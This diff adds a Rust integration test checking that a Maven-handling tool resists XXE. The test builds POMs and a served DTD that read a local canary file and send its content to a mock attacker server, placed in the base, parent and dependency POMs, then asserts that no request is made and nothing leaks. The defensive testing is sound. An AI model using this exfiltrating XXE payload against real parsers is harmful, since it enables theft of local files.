@@ -1,0 +1,114 @@
+//! Hostile repositories through the real binary: POMs that try to read a local file and send it
+//! to a server they name (XXE), in the base commit itself, in a parent and in a dependency's POM
+//! that a declared repository serves. The attacker's server must receive no request, and the
+//! file's content must appear nowhere: not in the artifacts, not on stdout or stderr.
+
+mod common;
+#[path = "common/files.rs"]
+mod files;
+
+use common::bin;
+use files::FileServer;
+
+fn exfiltrating_dtd(canary: &std::path::Path, attacker: &FileServer) -> String {
+    format!(
+        "<!ENTITY % file SYSTEM \"file://{}\">\n<!ENTITY % all \"<!ENTITY &#x25; send SYSTEM '{}x?%file;'>\">\n%all;\n%send;\n",
+        canary.display(),
+        attacker.url
+    )
+}
+
+fn doctype(attacker: &FileServer) -> String {
+    format!(
+        "<?xml version=\"1.0\"?>\n<!DOCTYPE project [<!ENTITY % p SYSTEM \"{}e.dtd\"> %p;]>\n",
+        attacker.url
+    )
+}
+
+fn pom(attacker: &FileServer, repository: &FileServer, dependency: &str) -> String {
+    format!(
+        r#"{}<project xmlns="http://maven.apache.org/POM/4.0.0">
+  <modelVersion>4.0.0</modelVersion>
+  <parent><groupId>evil</groupId><artifactId>parent</artifactId><version>1.0</version><relativePath/></parent>
+  <artifactId>app</artifactId>
+  <repositories><repository><id>declared</id><url>{}</url></repository></repositories>
+  <dependencies>
+    <dependency><groupId>evil</groupId><artifactId>{dependency}</artifactId><version>1.0</version></dependency>
+  </dependencies>
+</project>
+"#,
+        doctype(attacker),
+        repository.url
+    )
+}
+
+#[test]
+fn no_pom_can_send_a_file_away_or_into_the_report() {
+    let dir = tempfile::tempdir().unwrap();
+    let canary = dir.path().join("canary.txt");
+    let secret = format!("CANARY-{}", std::process::id());
+    std::fs::write(&canary, format!("{secret}\n")).unwrap();
+    let attacker = FileServer::start();
+    attacker.serve("/e.dtd", exfiltrating_dtd(&canary, &attacker));
+    let repository = FileServer::start();
+    let remote_pom = |artifact: &str, packaging: &str| {
+        format!(
+            "{}<project><modelVersion>4.0.0</modelVersion><groupId>evil</groupId><artifactId>{artifact}</artifactId><version>1.0</version><packaging>{packaging}</packaging></project>\n",
+            doctype(&attacker)
+        )
+    };
+    repository.serve("/evil/parent/1.0/parent-1.0.pom", remote_pom("parent", "pom"));
+    repository.serve("/evil/dep/1.0/dep-1.0.pom", remote_pom("dep", "jar"));
+
+    let repo = common::pr_repo(
+        &dir.path().join("repo"),
+        &[("pom.xml", &pom(&attacker, &repository, "dep")), ("README.md", "old\n")],
+        &[("README.md", "new\n")],
+    );
+    let recipe = dir.path().join("recipe.yml");
+    std::fs::write(
+        &recipe,
+        "type: specs.openrewrite.org/v1beta/recipe\nname: test.Readme\nrecipeList:\n  - org.openrewrite.text.FindAndReplace:\n      find: old\n      replace: new\n",
+    )
+    .unwrap();
+    let out = dir.path().join("out");
+    let output = bin()
+        .args([
+            "validate",
+            "--json",
+            "--backend",
+            "embedded",
+            "--base",
+            "main",
+            "--head",
+            "migration",
+            "--repo",
+        ])
+        .arg(repo.path())
+        .arg("--recipe")
+        .arg(&recipe)
+        .arg("--out")
+        .arg(&out)
+        .env("REWRITE_ASSIST_POM_CACHE", "off")
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(output.status.code(), Some(0), "{stderr}\n{stdout}");
+    assert_eq!(attacker.requests(), Vec::<String>::new(), "the attacker's server was contacted");
+    assert!(
+        repository.requests().iter().any(|r| r.contains("parent-1.0.pom")),
+        "the parent was never fetched, so nothing was tried: {:?}",
+        repository.requests()
+    );
+    assert!(!stdout.contains(&secret) && !stderr.contains(&secret), "{stdout}\n{stderr}");
+    for entry in
+        walkdir::WalkDir::new(&out).into_iter().filter_map(Result::ok).filter(|e| e.file_type().is_file())
+    {
+        let text = String::from_utf8_lossy(&std::fs::read(entry.path()).unwrap()).into_owned();
+        assert!(!text.contains(&secret), "{} carries the canary", entry.path().display());
+    }
+    // The change itself still validates.
+    let stats = common::json_stdout(&output);
+    assert_eq!(stats["metrics"]["perfect_match"], true, "{stats:#}");
+}
